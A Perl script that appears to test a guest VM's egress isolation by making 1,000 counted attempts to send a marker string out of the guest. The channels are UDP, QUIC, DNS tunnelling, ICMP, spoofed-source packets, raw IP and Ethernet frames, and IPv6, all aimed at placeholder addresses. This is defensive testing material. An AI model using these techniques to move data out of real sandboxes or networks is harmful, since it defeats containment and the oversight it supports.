# What a guest's root may try to get a byte out by another way: 1,000 tries, counted by kind.
use strict;
use warnings;
use Socket qw(:DEFAULT inet_pton pack_sockaddr_in6 AF_INET6 SOCK_RAW);

my @outside = ("198.51.100.10", "203.0.113.1", "198.51.100.77");
my $mark = "leak-by-another-way";
my ($done, %counts) = (0);
my ($gateway) = `ip -4 route show default` =~ /via (\S+)/ or die "no gateway";
my ($me) = `ip -4 -o addr show eth0` =~ /inet ([0-9.]+)/ or die "no address";
my ($index, $ether) = `ip -o link show eth0` =~ m{^(\d+):.*link/ether (\S+)} or die "no link";
my $mac = pack("H*", $ether =~ s/://gr);
system("sysctl -qw net.ipv6.conf.eth0.disable_ipv6=0; ip -6 addr add fd00:1::2/64 dev eth0 nodad; ip -6 route add default dev eth0");
srand(1);

# A try that the guest's own kernel refuses is one, too: it has let nothing out.
sub attempt {
    my ($kind, $work) = @_;
    $done++;
    $counts{$kind}++;
    eval { $work->() };
}

sub datagram {
    my ($to, $port, $payload) = @_;
    socket(my $s, PF_INET, SOCK_DGRAM, 0) or die $!;
    send($s, $payload // $mark, 0x40, pack_sockaddr_in($port, inet_aton($to)));
}

sub query {
    my ($to, $name, $kind) = @_;
    my $labels = join("", map { pack("C/a*", $_) } split(/\./, $name));
    datagram($to, 53, pack("n6", int(rand(65536)), 0x100, 1, 0, 0, 0) . $labels . "\0" . pack("nn", $kind, 1));
}

sub checksum {
    my $data = shift;
    $data .= "\0" if length($data) % 2;
    my $total = 0;
    $total += $_ for unpack("n*", $data);
    $total = ($total & 0xffff) + ($total >> 16) while $total >> 16;
    return ~$total & 0xffff;
}

sub ip {
    my ($from, $to, $protocol, $payload) = @_;
    my $head = pack(
        "CCnnnCCna4a4", 0x45, 0, 20 + length($payload), int(rand(65536)), 0, 64, $protocol, 0,
        inet_aton($from), inet_aton($to));
    substr($head, 10, 2) = pack("n", checksum($head));
    return $head . $payload;
}

sub echo_request {
    my $body = pack("CCnnn", 8, 0, 0, 1, 1) . $mark;
    substr($body, 2, 2) = pack("n", checksum($body));
    return $body;
}

sub raw {
    my ($from, $to, $protocol, $payload) = @_;
    socket(my $s, PF_INET, SOCK_RAW, 255) or die $!;
    send($s, ip($from, $to, $protocol, $payload), 0x40, pack_sockaddr_in(0, inet_aton($to)));
}

sub frame {
    my ($kind, $from, $payload) = @_;
    socket(my $s, 17, SOCK_RAW, 0) or die $!;
    send($s, pack("H12", "025600000001") . $from . pack("n", $kind) . $payload, 0x40,
        pack("SnlSCCa8", 17, $kind, $index, 1, 0, 6, ""));
}

sub segment { return pack("nnnn", 4444, shift, 8 + length($mark), 0) . $mark }

sub ipv6 {
    my ($to, $scope) = @_;
    socket(my $s, AF_INET6, SOCK_DGRAM, 0) or die $!;
    send($s, $mark, 0x40, pack_sockaddr_in6(443, inet_pton(AF_INET6, $to), $scope));
}

my $quic = "\xc3\x00\x00\x00\x01\x08" . "\0" x 8 . $mark . "\0" x 1170;
for my $n (0 .. 99) {
    my $to = $outside[$n % 3];
    attempt("udp", sub { datagram($to, 1 + int(rand(65534))) });
    attempt("quic", sub { datagram($to, 443, $quic) });
    attempt("dns elsewhere", sub { query($to, "n$n.secret.tunnel.test", 16) });
    attempt("dns tunnel", sub { query($gateway, "n$n.secret.tunnel.test", (1, 16, 28, 65)[$n % 4]) });
    attempt("dns over tls or quic", sub { datagram($to, 853) });
    attempt("icmp", sub { raw($me, $to, 1, echo_request()) });
    attempt("forged source", sub { raw(("192.168.100.77", "198.51.100.3")[$n % 2], $to, 17, segment(80)) });
    attempt("other protocols", sub { raw($me, $to, (4, 47, 50, 132, 41, 103)[$n % 6], $mark x 4) });
    attempt("raw frames", sub {
        frame((0x0800, 0x86dd, 0x8100)[$n % 3], $n % 2 ? $mac : "\0" x 6, ip($me, $to, 17, segment($n + 1)));
    });
    attempt("ipv6", sub { ipv6(("2001:db8::1", "ff02::1", "fd00::1")[$n % 3], $n % 3 == 1 ? $index : 0) });
}
print "$done ", scalar(keys %counts), "\n";
